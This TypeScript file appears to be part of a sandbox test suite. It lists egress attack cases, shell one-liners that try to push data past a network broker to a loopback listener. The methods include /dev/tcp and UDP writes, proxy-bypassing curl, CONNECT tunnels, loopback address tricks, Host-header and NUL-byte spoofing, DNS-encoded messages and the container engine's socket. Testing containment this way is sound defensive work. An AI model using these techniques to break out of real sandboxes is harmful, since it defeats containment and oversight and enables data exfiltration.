import { exitsZero, heard } from "../attack.ts";
import type { Attack } from "../attack.ts";

const category = "egress" as const;

const tcp = (word: string, address = "127.0.0.1"): string =>
  `exec 3<>/dev/tcp/${address}/$PORT && echo ${word} >&3`;

/** Bytes on their way out past the broker. */
const egressCases: readonly Omit<Attack, "category">[] = [
  {
    id: "out-tcp",
    title: "TCP to a service on the host",
    script: tcp("out-tcp"),
    hit: heard("out-tcp"),
  },
  {
    id: "out-localhost",
    title: "the same by name",
    script: tcp("out-localhost", "localhost"),
    hit: heard("out-localhost"),
  },
  {
    id: "out-mapped",
    title: "by another spelling of loopback",
    script: tcp("out-mapped", "127.0.1"),
    hit: heard("out-mapped"),
  },
  {
    id: "out-zero",
    title: "by 0.0.0.0",
    script: tcp("out-zero", "0.0.0.0"),
    hit: heard("out-zero"),
  },
  {
    id: "out-udp",
    title: "a datagram",
    script: "echo out-udp > /dev/udp/127.0.0.1/$UDP; sleep 0.1",
    hit: heard("out-udp"),
  },
  {
    id: "out-dns",
    title: "a name as a message, to the resolver",
    script:
      'node -e \'const {Resolver}=require("dns"); const r=new Resolver({timeout:500,tries:1}); r.setServers(["127.0.0.1:"+process.env.UDP]); r.resolve4("out-dns.example.com",()=>{})\'',
    hit: heard("out-dns"),
  },
  {
    id: "out-docker-sock",
    title: "the container engine's socket",
    script: "$ATTACK connect $SOCKET out-docker-sock",
    hit: heard("out-docker-sock"),
  },
  {
    id: "out-socket-proc",
    title: "that socket through /proc/PID/root",
    script: "$ATTACK connect /proc/$VICTIM/root$SOCKET out-socket-proc",
    hit: heard("out-socket-proc"),
  },
  {
    id: "out-abstract",
    title: "an abstract socket",
    script: "$ATTACK connect $ABSTRACT out-abstract",
    hit: heard("out-abstract"),
  },
  {
    id: "out-curl",
    title: "curl without its proxy",
    script: "curl -s -m 3 --noproxy '*' http://127.0.0.1:$PORT/out-curl",
    hit: heard("out-curl"),
  },
  {
    id: "out-proxied",
    title: "curl through the proxy to the host's loopback",
    script: "curl -s -m 3 --noproxy '' http://127.0.0.1:$PORT/out-proxied",
    hit: heard("out-proxied"),
  },
  {
    id: "out-connect",
    title: "CONNECT to the host's loopback",
    script:
      "curl -s -m 3 -p -x \"${HTTPS_PROXY:-http://127.0.0.1:$PORT}\" --noproxy '' http://127.0.0.1:$PORT/out-connect; exec 3<>/dev/tcp/127.0.0.1/${HTTPS_PROXY##*:} 2>/dev/null || exec 3<>/dev/tcp/127.0.0.1/$PORT; printf 'CONNECT 127.0.0.1:%s HTTP/1.1\\r\\nHost: 127.0.0.1:%s\\r\\n\\r\\nout-connect' $PORT $PORT >&3; sleep 0.3",
    hit: heard("out-connect"),
  },
  {
    id: "out-decimal",
    title: "through the proxy, loopback as one number",
    script: "curl -s -m 3 --noproxy '' http://2130706433:$PORT/out-decimal",
    hit: heard("out-decimal"),
  },
  {
    id: "out-host-header",
    title: "an allowed name in the Host header, loopback dialled",
    script:
      "curl -s -m 3 --noproxy '' -H 'Host: registry.npmjs.org' http://127.0.0.1:$PORT/out-host-header",
    hit: heard("out-host-header"),
  },
  {
    id: "out-nul",
    title: "a NUL in the name",
    script:
      "exec 3<>/dev/tcp/127.0.0.1/${HTTPS_PROXY##*:} 2>/dev/null || exec 3<>/dev/tcp/127.0.0.1/$PORT; printf 'GET http://127.0.0.1:%s/out-nul HTTP/1.1\\r\\nHost: example.com\\0.evil\\r\\n\\r\\n' $PORT >&3; sleep 0.3",
    hit: heard("out-nul"),
  },
  {
    id: "out-made-up",
    title: "an address that the sandbox makes up for a name",
    script:
      'for a in 198.18.0.1 198.18.1.0 198.19.255.255 ${ROUTE:-127.0.0.1}; do timeout 1 bash -c "exec 3<>/dev/tcp/$a/$PORT && echo out-made-up >&3"; done; true',
    hit: heard("out-made-up"),
  },
  {
    id: "out-names",
    title: "a message in names, to a resolver of its own",
    script:
      "for word in out-names one two; do printf '\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x09out-names\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01' > /dev/udp/127.0.0.1/$UDP; done; sleep 0.1",
    hit: heard("out-names"),
  },
  { id: "out-raw", title: "raw ICMP", script: "$ATTACK raw", hit: exitsZero, marked: "needs root" },
  {
    id: "out-packet",
    title: "frames on the wire",
    script: "$ATTACK packet",
    hit: exitsZero,
    marked: "needs root",
  },
  {
    id: "out-vsock",
    title: "the hypervisor's socket",
    script: "$ATTACK vsock",
    hit: exitsZero,
    marked: "needs a kernel with vsock",
  },
  {
    id: "out-inherited",
    title: "a descriptor left open by the starter",
    script:
      "for f in /proc/self/fd/*; do readlink $f; done | grep -v -e pipe -e /dev/ -e /proc -e .attack | grep -q socket",
    hit: exitsZero,
    marked: "depends on what starts it",
  },
];

export const egress: readonly Attack[] = egressCases.map((attack) => ({ category, ...attack }));
